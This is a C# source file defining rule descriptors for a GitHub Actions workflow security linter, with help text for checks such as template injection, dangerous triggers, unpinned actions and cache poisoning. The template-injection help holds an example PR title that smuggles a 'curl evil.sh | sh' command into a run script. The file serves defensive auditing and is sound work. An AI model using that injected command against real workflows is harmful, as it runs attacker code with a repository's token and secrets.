using Kingsnake.Core.Findings;
using Kingsnake.Core.Rules;

namespace Kingsnake.Workflows.Auditing;

/// <summary>
/// The workflow audit's rule descriptors. Each aliases the zizmor audit of the same check, so existing
/// <c># zizmor: ignore[name]</c> comments and configuration keep working. Default severity and confidence are
/// the rule's worst case; each finding carries its own grade.
/// </summary>
public static class WorkflowRules
{
    public const string Area = "workflows";

    public static Rule TemplateInjection { get; } = new()
    {
        Id = "GHA001",
        Name = "template-injection",
        Title = "Attacker-controllable expression expanded into code",
        Area = Area,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Cwe = [94, 78],
        Aliases = ["template-injection"],
        Help = """
            GitHub replaces `${{ … }}` in a `run:` script (or in a code input such as `actions/github-script`'s
            `script:`) with the value's text *before* the shell or interpreter sees it. A value an outsider writes
            (an issue or PR title, a branch name, a comment, a commit message) can therefore close a quote and run
            commands with the job's token and secrets: ``"a"; curl evil.sh | sh; echo "`` as a PR title is enough.

            The grade follows who controls the value: free text from issues, PRs, comments, commits, branch names
            and string inputs is high; structured text (e-mail addresses) medium; matrix values and environment
            variables of unknown origin lower; numbers, SHAs, booleans and ids are never reported. Workflows that
            only people with write access can trigger (push, schedule, workflow_dispatch, release) are graded one
            step lower than zizmor does. `${{ env.X }}` is followed to the `env:` that sets X.

            **Fix:** pass the value through an environment variable, which the shell expands as data:

            ```yaml
            - run: echo "$TITLE"
              env:
                TITLE: ${{ github.event.issue.title }}
            ```

            In `actions/github-script`, read `context.payload` or `process.env` instead of interpolating.
            """,
    };

    public static Rule DangerousTriggers { get; } = new()
    {
        Id = "GHA002",
        Name = "dangerous-triggers",
        Title = "Workflow runs privileged on events from forks",
        Area = Area,
        DefaultSeverity = Severity.Critical,
        DefaultConfidence = Confidence.High,
        Cwe = [829],
        Aliases = ["dangerous-triggers"],
        Help = """
            `pull_request_target` and `workflow_run` run in the base repository's context: a token that can write,
            and every secret, even when a fork's pull request caused them. They are safe only when nothing from the
            fork is executed. Checking out the pull request's head (`ref: ${{ github.event.pull_request.head.sha }}`,
            `head.ref`, `refs/pull/N/merge`, or `workflow_run.head_sha`/`head_branch`) and then running anything
            from it (install, build, test, a local action) hands the fork your secrets ("pwn request").

            Graded: a privileged trigger that checks out the fork's code and then runs steps is critical; one that
            checks it out without running anything afterwards is high; the trigger alone is informational (zizmor:
            high, medium confidence), and a workflow whose only job is one `actions/labeler` step is not reported.

            **Fix:** use `pull_request` (read-only token, no secrets) for building and testing fork code. If the
            workflow must comment or label, split it: a `pull_request` workflow uploads results as an artifact, and a
            `workflow_run` workflow that never checks out or executes fork content consumes them.
            """,
    };

    public static Rule ExcessivePermissions { get; } = new()
    {
        Id = "GHA003",
        Name = "excessive-permissions",
        Title = "GITHUB_TOKEN permissions broader than needed",
        Area = Area,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Cwe = [250, 272],
        Aliases = ["excessive-permissions"],
        Help = """
            Every job gets a `GITHUB_TOKEN`. Without a `permissions:` block its scopes come from a repository
            setting, which is read/write on everything for repositories created before February 2023. A token that
            can push code, publish packages or mint OIDC tokens turns any compromised step (a hijacked action, an
            injection) into a supply-chain attack.

            Reported: `write-all` (high), `read-all` (medium), a workflow with no `permissions:` whose jobs do not all
            declare their own (medium), and workflow-level write grants (per scope: `contents`, `packages`, `actions`,
            `id-token`, `pages`, `pull-requests`, `issues`, `deployments`, `attestations` high; `checks`,
            `discussions`, `security-events` and others medium; `statuses`, `models` low). Write grants are better
            given to the one job that needs them; with a single job (or when every job declares its own block)
            workflow-level scopes are only reported to the pedantic persona.

            **Fix:** declare least privilege at the top and widen per job:

            ```yaml
            permissions: {}
            jobs:
              publish:
                permissions:
                  id-token: write   # PyPI Trusted Publishing
            ```

            `kingsnake fix` adds `permissions: contents: read` at the top, and gives each job that uses more (a push,
            `gh release create`, a pull-request comment, a known action such as `softprops/action-gh-release`) its own
            block with the scopes it uses, so no job loses what it needs. When a job's use of the token cannot be told
            (`gh api`, `actions/github-script`, an action handed the token, a reusable workflow), the finding says so
            and no edit is made.
            """,
    };

    public static Rule Artipacked { get; } = new()
    {
        Id = "GHA004",
        Name = "artipacked",
        Title = "Checkout persists the token in .git/config",
        Area = Area,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Cwe = [522, 200],
        Aliases = ["artipacked"],
        Help = """
            `actions/checkout` writes the job's token into `.git/config` unless told not to. Every later step (and
            every action it runs) can read it, and an `actions/upload-artifact` of the workspace (`path: .`) publishes
            it to anyone who can download the run's artifacts.

            Graded: checkout without `persist-credentials: false` followed by an upload of the workspace is high with
            high confidence; without such an upload, medium with low confidence. `actions/checkout` v6 and later keep
            the credential out of `.git/config`, which lowers the severity one step.

            **Fix:**

            ```yaml
            - uses: actions/checkout@v4
              with:
                persist-credentials: false
            ```

            Steps that need to push can set up credentials themselves, just for that step. `kingsnake fix` adds
            `persist-credentials: false` only when no later step of the job uses the persisted credentials (`git
            push`/`fetch`/`pull`, `gh`, `mkdocs gh-deploy`, `mike --push`, an action that pushes such as
            `stefanzweifel/git-auto-commit-action`); otherwise the finding names that step and nothing is edited.
            """,
    };

    public static Rule UnpinnedUses { get; } = new()
    {
        Id = "GHA005",
        Name = "unpinned-uses",
        Title = "Action or reusable workflow not pinned to a commit",
        Area = Area,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Cwe = [829, 1357],
        Aliases = ["unpinned-uses"],
        Help = """
            A tag (`@v4`) or branch (`@main`) can be moved by whoever controls the action's repository, or by an
            attacker who took it over (as with tj-actions/changed-files in 2025), and the next run executes the new
            code with your token and secrets. Only a full 40-character commit SHA is immutable.

            Graded: a branch, a missing ref or an abbreviated SHA is high; a version tag is high for third-party
            actions and medium for GitHub's own `actions/*` and `github/*` (zizmor's default policy pins everything;
            set `UnpinnedPolicy` to `HashPinAll` for that). Local `./` actions and `docker://` images are out of scope.
            pre-commit hook repositories are checked too: a missing or branch `rev:` is high, a tag medium for the
            pedantic persona (`pre-commit autoupdate --freeze` pins SHAs).

            **Fix:** pin the commit and keep the tag as a comment so that Dependabot or Renovate can update it:

            ```yaml
            - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683  # v4.2.2
            ```

            `kingsnake fix` makes this edit when it knows the tag's commit without the network: from
            `.github/kingsnake-pins.toml` (`[pins]` with `"owner/repo@tag" = "sha"` lines, and `[clones]` with
            `"owner/repo" = "path"` to read the tags of a local clone), then from a built-in list of releases seen pinned
            in real workflows. A partial tag such as `@v4` is pinned to the newest v4 release that source knows, and the
            comment names it: check that release is the one you want.
            """,
    };

    public static Rule UseTrustedPublishing { get; } = new()
    {
        Id = "GHA006",
        Name = "use-trusted-publishing",
        Title = "Package upload with a long-lived token where Trusted Publishing works",
        Area = Area,
        DefaultSeverity = Severity.Info,
        DefaultConfidence = Confidence.High,
        Cwe = [798, 522],
        Aliases = ["use-trusted-publishing"],
        Help = """
            The upload authenticates with an API token or password stored as a secret. A leaked token (from logs, a
            compromised action or an injected step) can publish releases until someone revokes it. PyPI, npm,
            crates.io, RubyGems and NuGet offer Trusted Publishing: the workflow's short-lived OIDC token is exchanged
            for the upload, so there is nothing to steal and nothing to rotate.

            Reported on the step that uploads: `pypa/gh-action-pypi-publish` with `password:` (PyPI or TestPyPI),
            `pyo3/maturin-action` uploading with `MATURIN_PYPI_TOKEN`, `rubygems/release-gem` with
            `setup-trusted-publisher: false`, `setup-node` with `always-auth` to npmjs, and `run:` commands (the span is
            the command): `twine upload` (also through `python -m`, `uv run`, `uvx`, `pipx run`), `uv publish`,
            `poetry publish`, `hatch publish`, `pdm publish`, `flit publish`, `maturin upload`/`publish`,
            `npm`/`pnpm`/`yarn`/`bun publish`, `cargo publish`, `gem push` and `dotnet nuget push`.

            Not reported: uploads to another index or registry (`--repository-url`, `-r name`, `--registry`, a
            GitHub Packages `registry-url`…), dry runs, a tool that requests the OIDC token itself (twine 6.1+, uv,
            pdm, maturin, npm 11.5+) when it is handed no credential and the job has `id-token: write`, and a token an
            earlier step minted from the OIDC token (`rust-lang/crates-io-auth-action`, `NuGet/login`,
            `rubygems/configure-rubygems-credentials`).

            **Fix:** register this repository and workflow as a trusted publisher in the registry's project
            settings, then:

            ```yaml
            permissions:
              id-token: write
            steps:
              - uses: pypa/gh-action-pypi-publish@76f52bc884231f62b9a034ebfe128415bbaabdfc  # v1.12.4
            ```

            (`uv publish`, `twine`, `pdm` and `maturin` pick up the OIDC token too: drop the `--token`/`-p`/`TWINE_PASSWORD`.)
            `kingsnake fix` makes no edit here: the upload fails until the registry lists the workflow as a trusted
            publisher, which only the project's owner can do, so the switch is left to a person.
            """,
    };

    public static Rule InsecureCommands { get; } = new()
    {
        Id = "GHA007",
        Name = "insecure-commands",
        Title = "Deprecated workflow commands re-enabled",
        Area = Area,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Cwe = [77],
        Aliases = ["insecure-commands"],
        Help = """
            `ACTIONS_ALLOW_UNSECURE_COMMANDS: true` turns back on the `::set-env` and `::add-path` log commands,
            which GitHub disabled in 2020 because anything that can print to the log (a test's output, a file's
            contents, a PR title) can then set `LD_PRELOAD`, `PATH` or `NODE_OPTIONS` for every later step.

            **Fix:** remove the variable and write to the files GitHub provides instead:
            `echo "NAME=value" >> "$GITHUB_ENV"` and `echo "$dir" >> "$GITHUB_PATH"`.
            """,
    };

    public static Rule HardcodedContainerCredentials { get; } = new()
    {
        Id = "GHA008",
        Name = "hardcoded-container-credentials",
        Title = "Container registry password written in the workflow",
        Area = Area,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Cwe = [798],
        Aliases = ["hardcoded-container-credentials"],
        Help = """
            A `container:` or `services:` entry gives its registry password as a literal. Everyone who can read the
            repository can read it, and it stays in the git history after it is removed.

            **Fix:** rotate the password, store it as a secret and reference it:

            ```yaml
            credentials:
              username: ${{ github.actor }}
              password: ${{ secrets.REGISTRY_TOKEN }}
            ```
            """,
    };

    public static Rule SecretsInherit { get; } = new()
    {
        Id = "GHA009",
        Name = "secrets-inherit",
        Title = "Reusable workflow receives every secret",
        Area = Area,
        DefaultSeverity = Severity.Medium,
        DefaultConfidence = Confidence.High,
        Cwe = [200, 272],
        Aliases = ["secrets-inherit"],
        Help = """
            `secrets: inherit` passes every secret of the calling repository (and organisation) to the called
            workflow, whatever it needs. If the called workflow, or an action it uses, is compromised or later
            changed, all of them leak.

            **Fix:** pass only what the workflow declares:

            ```yaml
            uses: org/workflows/.github/workflows/publish.yml@<sha>
            secrets:
              PYPI_TOKEN: ${{ secrets.PYPI_TOKEN }}
            ```
            """,
    };

    public static Rule OverprovisionedSecrets { get; } = new()
    {
        Id = "GHA010",
        Name = "overprovisioned-secrets",
        Title = "Whole secrets context exposed",
        Area = Area,
        DefaultSeverity = Severity.Medium,
        DefaultConfidence = Confidence.High,
        Cwe = [200],
        Aliases = ["overprovisioned-secrets"],
        Help = """
            `toJSON(secrets)` (or any use of the whole `secrets` object, or `secrets[<computed name>]`) makes every
            secret available to the step, so the runner must register all of them for masking and a single
            compromised step or action gets them all.

            **Fix:** name the secrets the step needs: `${{ secrets.PYPI_TOKEN }}`. For a computed choice, use a
            literal map of the few allowed names, or GitHub environments.
            """,
    };

    public static Rule BotConditions { get; } = new()
    {
        Id = "GHA011",
        Name = "bot-conditions",
        Title = "Spoofable bot check in a job condition",
        Area = Area,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Cwe = [290],
        Aliases = ["bot-conditions"],
        Help = """
            `github.actor` is whoever caused the *latest* event, not who wrote the code. An attacker can open a pull
            request, wait for Dependabot (or another bot) to act on it, or trigger a bot by a comment, and a condition
            like `if: github.actor == 'dependabot[bot]'` then lets the attacker's code through with the privileges
            meant for the bot. `github.triggering_actor` and `github.event.sender.login` have the same weakness.

            Graded high confidence when the check decides the whole condition, medium when it is one part of it.

            **Fix:** check who authored the pull request, which cannot change afterwards:
            `if: github.event.pull_request.user.login == 'dependabot[bot]'`.
            """,
    };

    public static Rule UnsoundCondition { get; } = new()
    {
        Id = "GHA012",
        Name = "unsound-condition",
        Title = "Condition that is always true",
        Area = Area,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Cwe = [670],
        Aliases = ["unsound-condition"],
        Help = """
            An `if:` written as a block scalar (`if: |` or `if: >`) keeps a trailing newline after the `${{ … }}`.
            GitHub then evaluates a non-empty string, not the expression, and the condition is always true: the
            guard you wrote never runs.

            **Fix:** strip the newline with `|-` or `>-`, or write the condition on one line without fences.
            """,
    };

    public static Rule CachePoisoning { get; } = new()
    {
        Id = "GHA013",
        Name = "cache-poisoning",
        Title = "Release job restores a cache that other runs can write",
        Area = Area,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.Low,
        Cwe = [349, 494],
        Aliases = ["cache-poisoning"],
        Help = """
            A run on a tag or a release restores cache entries saved by runs on the default branch. If any
            default-branch run executes code an outsider controls and saves a cache (a `pull_request_target` or
            `workflow_run` job that checks out the fork's head, a comment-triggered job, an injected command), the
            release job that restores it (`actions/cache`, `setup-python` with `cache:`, `setup-uv` with caching on,
            `setup-go` and `setup-node` v5 by default…) can build its artifact from files the attacker placed there.
            Entries saved by `pull_request` runs are scoped to the pull request and are not restored by a release.

            Reported in jobs that publish: the workflow runs on `release`, on pushed tags or on release branches, or
            the job has a publishing step (`pypa/gh-action-pypi-publish`, `softprops/action-gh-release`,
            `docker/build-push-action` with `push: true`, `maturin upload`, an upload command such as `twine upload`
            or `npm publish` in `run:`…). A documentation deploy (`actions/deploy-pages`) is not a release. When a
            workflow of the repository runs a fork's code on the default branch and saves caches, the finding names
            it and its confidence is medium; otherwise low, as in zizmor. A cache switch written as an expression
            (cache only when not on a tag) is left alone.

            **Fix:** do not restore caches in release jobs:

            ```yaml
            - uses: actions/setup-python@<sha>
              with:
                python-version: "3.13"
                # no cache: here
            - uses: astral-sh/setup-uv@<sha>
              with:
                enable-cache: false
            ```

            Turning a cache off changes how the job runs, so `kingsnake fix` leaves it to you.
            """,
    };

    public static Rule GitHubEnv { get; } = new()
    {
        Id = "GHA014",
        Name = "github-env",
        Title = "Write to GITHUB_ENV or GITHUB_PATH in a privileged workflow",
        Area = Area,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.Low,
        Cwe = [15, 94],
        Aliases = ["github-env"],
        Help = """
            Lines written to `$GITHUB_ENV` become environment variables of every later step, and lines written to
            `$GITHUB_PATH` prepend directories to their `PATH`. If any of the written text comes from a fork (a
            branch name, an artifact, a file of the pull request), it can set `LD_PRELOAD`, `BASH_ENV` or
            `NODE_OPTIONS`, or put an attacker's directory first on `PATH`, and run code with the privileged token of
            `pull_request_target` or `workflow_run`. Composite actions are always checked: their callers are unknown.

            An `echo`/`printf` of literal text only is not reported.

            **Fix:** keep the value in a step output (`$GITHUB_OUTPUT`) and pass it explicitly through `env:` where it
            is needed, or validate it strictly before writing it; do not run such workflows on fork data at all if
            you can use `pull_request` instead.
            """,
    };

    public static Rule UnpinnedImages { get; } = new()
    {
        Id = "GHA015",
        Name = "unpinned-images",
        Title = "Container image not pinned",
        Area = Area,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Cwe = [829, 1357],
        Aliases = ["unpinned-images"],
        Help = """
            A job `container:`, a `services:` entry, a `docker://` step or a Docker action names an image without a
            tag (which means `:latest`) or with `:latest`: whatever is pushed to that name next runs in the job, with
            its token and secrets. A version tag is better but can still be re-pushed; only a digest is immutable.

            Graded: no tag or `:latest` high; a tag without a digest medium for the pedantic persona. An image built
            from the job's matrix is judged for each literal value (the values at fault are named); any other
            expression is a pedantic reminder with low confidence.

            **Fix:** pin the digest and keep the tag for readers:

            ```yaml
            services:
              postgres:
                image: postgres:16.4@sha256:<digest>
            ```
            """,
    };

    public static Rule SelfHostedRunner { get; } = new()
    {
        Id = "GHA016",
        Name = "self-hosted-runner",
        Title = "Job runs on a self-hosted runner",
        Area = Area,
        DefaultSeverity = Severity.Medium,
        DefaultConfidence = Confidence.High,
        Cwe = [668],
        Aliases = ["self-hosted-runner"],
        Help = """
            Self-hosted runners are not wiped between jobs. On a public repository, a pull request from a fork that
            runs on one can leave a process, a poisoned tool cache or a modified `PATH` behind for the next job,
            which may be a release. Reported for auditors by default (many private repositories use them safely), and
            to everyone when the workflow runs on events forks can cause (`pull_request`, `pull_request_target`,
            `issue_comment`, `workflow_run`).

            **Fix:** run fork-triggered jobs on GitHub-hosted runners, or use ephemeral self-hosted runners
            (`--ephemeral`, a fresh VM per job) and require approval for first-time contributors' workflows.
            """,
    };

    public static Rule AnonymousDefinition { get; } = new()
    {
        Id = "GHA017",
        Name = "anonymous-definition",
        Title = "Workflow or job without a name",
        Area = Area,
        DefaultSeverity = Severity.Low,
        DefaultConfidence = Confidence.High,
        Aliases = ["anonymous-definition"],
        Help = """
            Without `name:` GitHub shows the workflow's file path and the job's id in the UI, in required status
            checks and in audit logs, which makes runs harder to recognise and review. Pedantic persona only.

            **Fix:** add `name:` to the workflow and to each job.
            """,
    };

    public static Rule ConcurrencyLimits { get; } = new()
    {
        Id = "GHA018",
        Name = "concurrency-limits",
        Title = "No concurrency limit on the workflow",
        Area = Area,
        DefaultSeverity = Severity.Low,
        DefaultConfidence = Confidence.High,
        Cwe = [400],
        Aliases = ["concurrency-limits"],
        Help = """
            Without a `concurrency:` group every push starts another full run while the previous ones keep going,
            which wastes runners and keeps secrets in use longer; a group without `cancel-in-progress` queues runs
            instead of replacing them. Pedantic persona only; reusable-only workflows are skipped.

            **Fix:**

            ```yaml
            concurrency:
              group: ${{ github.workflow }}-${{ github.ref }}
              cancel-in-progress: true
            ```
            """,
    };

    public static Rule UnsoundContains { get; } = new()
    {
        Id = "GHA019",
        Name = "unsound-contains",
        Title = "contains() with a string where a list was meant",
        Area = Area,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Cwe = [697],
        Aliases = ["unsound-contains"],
        Help = """
            `contains('refs/heads/main refs/heads/release', github.ref)` looks like a membership test, but with a string as
            its first argument `contains` tests for a *substring*: a branch named `main`, `s/rel` or `heads/main refs` passes
            too. In a condition that guards a deployment or a secret, anyone who can push a branch or pass an input chooses the
            value. High for refs, `env.*`, `inputs.*` and other free text; informational for `github.event_name`, whose values
            are fixed names.

            **Fix:** test against a real list, or compare exactly:

            ```yaml
            if: contains(fromJSON('["refs/heads/main", "refs/heads/release"]'), github.ref)
            ```
            """,
    };

    public static Rule UnsoundTernary { get; } = new()
    {
        Id = "GHA020",
        Name = "unsound-ternary",
        Title = "Pseudo-ternary whose true branch is falsy",
        Area = Area,
        DefaultSeverity = Severity.Low,
        DefaultConfidence = Confidence.High,
        Cwe = [670],
        Aliases = ["unsound-ternary"],
        Help = """
            `cond && X || Y` is the expression language's stand-in for a ternary, but when `X` is falsy (`''`, `0`, `false`,
            `null`) the `||` takes over and the result is always `Y`, whatever `cond` is: `github.event_name == 'push' && '' || '--dry-run'`
            never drops `--dry-run`.

            **Fix:** invert the condition so the falsy value comes last (`github.event_name != 'push' && '--dry-run' || ''`),
            or use `case()` where available.
            """,
    };

    public static Rule UnredactedSecrets { get; } = new()
    {
        Id = "GHA021",
        Name = "unredacted-secrets",
        Title = "Field taken out of a JSON secret",
        Area = Area,
        DefaultSeverity = Severity.Medium,
        DefaultConfidence = Confidence.High,
        Cwe = [532],
        Aliases = ["unredacted-secrets"],
        Help = """
            The runner masks each secret's *whole* value in logs. `fromJSON(secrets.CREDS).password` yields a substring that is
            not registered for masking, so any step that prints it (a debug line, an error message, `set -x`) writes it in clear
            into logs that everyone with read access can see.

            **Fix:** store each value as its own secret (`secrets.DB_PASSWORD`), or register the field for masking first with
            `echo "::add-mask::$VALUE"` before anything can print it.
            """,
    };

    public static Rule Obfuscation { get; } = new()
    {
        Id = "GHA022",
        Name = "obfuscation",
        Title = "Roundabout syntax that hides what runs",
        Area = Area,
        DefaultSeverity = Severity.Low,
        DefaultConfidence = Confidence.High,
        Aliases = ["obfuscation"],
        Help = """
            Reported: `uses:` paths with `.`, `..` or empty segments (`actions/checkout/./@v4`, `org//repo`), which reviewers and
            allow lists read differently from GitHub; `${{ }}` expressions that reduce to a constant string (`${{ 'curl' }}`,
            `${{ format('{0}', 'x') }}`); `fromJSON(toJSON(x))` round trips; and, for the pedantic persona, a step whose whole
            `with:` is one expression. Such forms are how malicious changes hide in plain sight.

            **Fix:** write the plain value: `uses: actions/checkout@v4`, `run: curl …`. The path, and a constant string or
            `format()` of literals, are offered as automatic edits where the value reads the same in the YAML.
            """,
    };

    public static Rule UndocumentedPermissions { get; } = new()
    {
        Id = "GHA023",
        Name = "undocumented-permissions",
        Title = "Permission granted without a comment",
        Area = Area,
        DefaultSeverity = Severity.Low,
        DefaultConfidence = Confidence.High,
        Aliases = ["undocumented-permissions"],
        Help = """
            A reviewer cannot tell whether `pull-requests: write` is still needed unless the workflow says what uses it, so
            grants pile up. Pedantic persona only; `contents: read` and `none` are exempt.

            **Fix:** say why on the same line:

            ```yaml
            permissions:
              id-token: write   # PyPI Trusted Publishing
            ```
            """,
    };

    public static Rule ForbiddenUses { get; } = new()
    {
        Id = "GHA024",
        Name = "forbidden-uses",
        Title = "Action not allowed by policy",
        Area = Area,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Cwe = [829],
        Aliases = ["forbidden-uses"],
        Help = """
            The project's configuration lists which actions may be used (an allow list such as `actions/*`, `pypa/*`) or which
            may not (a deny list). This step or reusable workflow is outside that policy. Off unless configured.

            **Fix:** replace the action with an allowed one, or widen the policy deliberately.
            """,
    };

    public static Rule SuperfluousActions { get; } = new()
    {
        Id = "GHA025",
        Name = "superfluous-actions",
        Title = "Action that a preinstalled tool replaces",
        Area = Area,
        DefaultSeverity = Severity.Info,
        DefaultConfidence = Confidence.High,
        Aliases = ["superfluous-actions"],
        Help = """
            Some third-party actions only wrap a tool every GitHub-hosted runner already has (`gh release create`,
            `gh pr create`, `git push`, `rustup`). Each one is another repository whose owner can change code that runs with your
            token, another pin to maintain, and another thing to audit.

            **Fix:** call the tool directly, e.g. `gh release create "$TAG" dist/* --verify-tag` with `GH_TOKEN: ${{ github.token }}`.
            """,
    };

    public static Rule AdhocPackages { get; } = new()
    {
        Id = "GHA026",
        Name = "adhoc-packages",
        Title = "Package installed outside a lock file",
        Area = Area,
        DefaultSeverity = Severity.Low,
        DefaultConfidence = Confidence.High,
        Cwe = [1357, 494],
        Aliases = ["adhoc-packages"],
        Help = """
            `npm install <pkg>`, `yarn add`, `gem install` and the like in a `run:` fetch whatever version is newest at run time,
            with no hashes: a compromised release (or a typo) runs in the job. Kingsnake also reports `pip install <pkg>`,
            `uv pip install`, `pipx install` and `uv tool install` of unpinned packages to the pedantic persona (zizmor does not
            cover Python), and `apt-get install` of unversioned system packages likewise; `==` and `pkg=version` pins, local
            paths, requirement files and `--require-hashes` are fine. Commands are read with the shell's quoting, line
            continuations, comments and heredocs, so `echo "pip install x"` or a commented-out line is not an install.

            **Fix:** install from a lock file (`npm ci`, `uv sync --locked`, `pip install --require-hashes -r requirements.txt`)
            or at least pin exact versions (`pip install build==1.2.2`).
            """,
    };

    public static Rule UnpinnedTools { get; } = new()
    {
        Id = "GHA027",
        Name = "unpinned-tools",
        Title = "Setup action downloads an unpinned tool",
        Area = Area,
        DefaultSeverity = Severity.Medium,
        DefaultConfidence = Confidence.High,
        Cwe = [1357],
        Aliases = ["unpinned-tools"],
        Help = """
            `aquasecurity/setup-trivy` and `1password/load-secrets-action` download their tool at run time. Without a `version`
            input (or with `latest`) the newest release is used on every run, so pinning the action's SHA does not pin what
            actually runs.

            **Fix:** pin the tool too: `with: { version: v0.58.1 }`.
            """,
    };

    public static Rule Misfeature { get; } = new()
    {
        Id = "GHA028",
        Name = "misfeature",
        Title = "Feature that invites mistakes",
        Area = Area,
        DefaultSeverity = Severity.Low,
        DefaultConfidence = Confidence.High,
        Aliases = ["misfeature"],
        Help = """
            Reported: `actions/setup-python`'s `pip-install:` input (installs with no lock file or hashes, hidden in a setup
            step); `shell: cmd` (cmd's quoting and `%VAR%` expansion make injection easy); and, for auditors, custom shell
            templates.

            **Fix:** install from a lock file in a `run:` step (`uv sync --locked`), and use `pwsh` or `bash` on Windows.
            """,
    };

    public static Rule GitHubApp { get; } = new()
    {
        Id = "GHA029",
        Name = "github-app",
        Title = "GitHub App token broader than needed",
        Area = Area,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Cwe = [250, 272],
        Aliases = ["github-app"],
        Help = """
            `actions/create-github-app-token` mints an installation token. With `skip-token-revoke: true` the token stays valid
            for an hour after the job; with `owner:` and no `repositories:` it covers every repository the app is installed on;
            with no `permission-*` input it carries every permission the installation has. A leaked token (from a log, a
            compromised step) then reaches far beyond this job.

            **Fix:**

            ```yaml
            - uses: actions/create-github-app-token@<sha>
              with:
                app-id: ${{ vars.APP_ID }}
                private-key: ${{ secrets.APP_KEY }}
                repositories: docs
                permission-contents: write
            ```
            """,
    };

    public static Rule SelfRepository { get; } = new()
    {
        Id = "GHA030",
        Name = "self-repository",
        Title = "Local action resolved from the workspace",
        Area = Area,
        DefaultSeverity = Severity.Low,
        DefaultConfidence = Confidence.High,
        Cwe = [829],
        Aliases = ["self-repository"],
        Help = """
            `uses: ./path/to/action` runs whatever is at that path in the workspace when the step starts, which is what the job
            checked out: possibly another ref, a pull request's head, or a directory a previous step rewrote. GitHub's
            self-repository form `$/path/to/action` names the action in the workflow's own repository at the workflow's commit.

            **Fix:** `uses: $/.github/actions/setup` (an automatic edit, except after a checkout with `ref:`,
            `repository:` or `path:` and in composite actions, where `./` and `$/` can name different files).
            """,
    };

    public static Rule ArchivedUses { get; } = new()
    {
        Id = "GHA031",
        Name = "archived-uses",
        Title = "Action from an archived repository",
        Area = Area,
        DefaultSeverity = Severity.Medium,
        DefaultConfidence = Confidence.High,
        Cwe = [1104],
        Aliases = ["archived-uses"],
        Help = """
            The action's repository is archived: its owner no longer fixes it, security problems included, and it
            often runs on a Node.js version GitHub has retired. The list of archived repositories is kept as data in
            the project (`Knowledge/Data/archived-actions.txt`, with its source); an `--action-data` snapshot can mark
            more repositories archived (`"archived": true`, the REST API's field), and its answer wins over the list.

            **Fix:** replace it: `actions/create-release` and `actions/upload-release-asset` by `gh release create` /
            `gh release upload`, `actions-rs/toolchain` by `rustup` or `dtolnay/rust-toolchain`, `actions/setup-ruby` by
            `ruby/setup-ruby`.
            """,
    };

    public static Rule TyposquatUses { get; } = new()
    {
        Id = "GHA032",
        Name = "typosquat-uses",
        Title = "Action name one letter away from a popular action",
        Area = Area,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.Low,
        Cwe = [506, 829],
        Aliases = ["typosquat-uses"],
        Help = """
            `actoins/checkout` or `action/checkout` is not `actions/checkout`: typosquatters register such names and
            publish an action that does the expected job plus stealing the token and secrets. Reported when the
            `owner/repo` is one edit away from a popular action (list in `Knowledge/Data/popular-actions.txt`).
            Offline the repository cannot be looked up, so confidence is low.

            **Fix:** correct the name, and pin the commit SHA of the real action.
            """,
    };

    public static Rule DependabotCooldown { get; } = new()
    {
        Id = "GHA033",
        Name = "dependabot-cooldown",
        Title = "Dependabot proposes releases without a cooldown",
        Area = Area,
        DefaultSeverity = Severity.Medium,
        DefaultConfidence = Confidence.High,
        Cwe = [1357, 494],
        Aliases = ["dependabot-cooldown"],
        Help = """
            Without a `cooldown:` Dependabot opens an update pull request minutes after a release is published.
            Compromised releases (stolen maintainer tokens, hijacked packages) are usually found and yanked within
            days; a cooldown keeps them out of your lock file meanwhile. Reported when `cooldown:` is missing or
            `default-days` is under the threshold (7 days by default). A safe fix adds or raises it.

            **Fix:**

            ```yaml
            updates:
              - package-ecosystem: pip
                directory: /
                schedule: {interval: weekly}
                cooldown:
                  default-days: 7
            ```
            """,
    };

    public static Rule DependabotExecution { get; } = new()
    {
        Id = "GHA034",
        Name = "dependabot-execution",
        Title = "Dependabot may run dependencies' code",
        Area = Area,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Cwe = [94, 829],
        Aliases = ["dependabot-execution"],
        Help = """
            `insecure-external-code-execution: allow` lets Dependabot execute code of the packages it updates (a
            `setup.py`, build scripts) while resolving versions, with the private registry credentials it was given.
            A malicious release then steals them.

            **Fix:** remove the key or set `insecure-external-code-execution: deny`; move projects that need
            `setup.py` execution to static metadata (`pyproject.toml`).
            """,
    };

    public static Rule InsecureUrlScheme { get; } = new()
    {
        Id = "GHA035",
        Name = "insecure-url-scheme",
        Title = "pre-commit hook repository fetched without TLS",
        Area = Area,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Cwe = [319, 494],
        Aliases = ["insecure-url-scheme"],
        Help = """
            A `.pre-commit-config.yaml` `repo:` with `http://` or `git://` is fetched without TLS: anyone on the
            network path can substitute the hook code, which then runs on every developer's machine and in CI.

            **Fix:** use `https://` and pin `rev:` to a commit SHA (`pre-commit autoupdate --freeze`).
            """,
    };

    public static Rule SecretsOutsideEnv { get; } = new()
    {
        Id = "GHA036",
        Name = "secrets-outside-env",
        Title = "Repository secret used outside a deployment environment",
        Area = Area,
        DefaultSeverity = Severity.Medium,
        DefaultConfidence = Confidence.High,
        Cwe = [522],
        Aliases = ["secrets-outside-env"],
        Help = """
            A repository secret is available to every job of every workflow on every branch, including branches
            anyone with write access (or a compromised bot) can push. Secrets of a deployment environment can require
            a reviewer and be limited to protected branches or tags. Auditor persona only (many repositories cannot
            use environments everywhere); reusable-only workflows are skipped.

            **Fix:** move the secret to an environment and name it on the job:

            ```yaml
            publish:
              environment: pypi
              steps:
                - run: ./upload.sh
